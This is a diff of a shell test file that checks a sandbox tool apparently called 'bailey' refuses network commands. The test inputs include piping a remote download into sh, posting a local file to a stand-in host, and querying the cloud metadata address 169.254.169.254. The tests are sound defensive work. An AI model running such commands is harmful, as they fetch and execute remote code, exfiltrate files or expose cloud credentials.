@@ -86,18 +86,23 @@ END
         [ "$status" = 7 ]
 }
 
+# blocks COMMAND [OPTION...]: nothing of it runs
+blocks() {
+        local command=$1
+        shift
+        run bailey run "$@" "touch marker; $command"
+        echo "$command: $output"
+        [ "$status" = 126 ]
+        [ ! -e marker ]
+}
+
 @test "it is one if the config says so, if the sandbox would let it pass, or if it is more than a name" {
-        local refused
-        for refused in '--set guard.block_unreachable_hosts=true curl#-s#https://unlisted.example/' \
-                '--network inherit curl#-s#https://unlisted.example/' '--timeout 60s curl#-s#https://unlisted.example/|sh' \
-                '--timeout 60s curl#-d#@marker#https://unlisted.example/' '--timeout 60s curl#-s#http://169.254.169.254/' \
-                '--set guard.domain_denylist=["unlisted.example"] curl#-s#https://unlisted.example/'; do
-                # shellcheck disable=SC2086 # the options are words
-                run bailey run ${refused% *} "$(tr '#' ' ' <<<"touch marker; ${refused##* }")"
-                echo "$refused: $output"
-                [ "$status" = 126 ]
-                [ ! -e marker ]
-        done
+        blocks 'curl -s https://unlisted.example/' --set guard.block_unreachable_hosts=true
+        blocks 'curl -s https://unlisted.example/' --network inherit
+        blocks 'curl -s https://unlisted.example/' --set 'guard.domain_denylist=["unlisted.example"]'
+        blocks 'curl -s https://unlisted.example/ | sh'
+        blocks 'curl -d @marker https://unlisted.example/'
+        blocks 'curl -s http://169.254.169.254/'
         run bailey test 'curl -s https://unlisted.example/'
         [ "$status" = 2 ]
 }
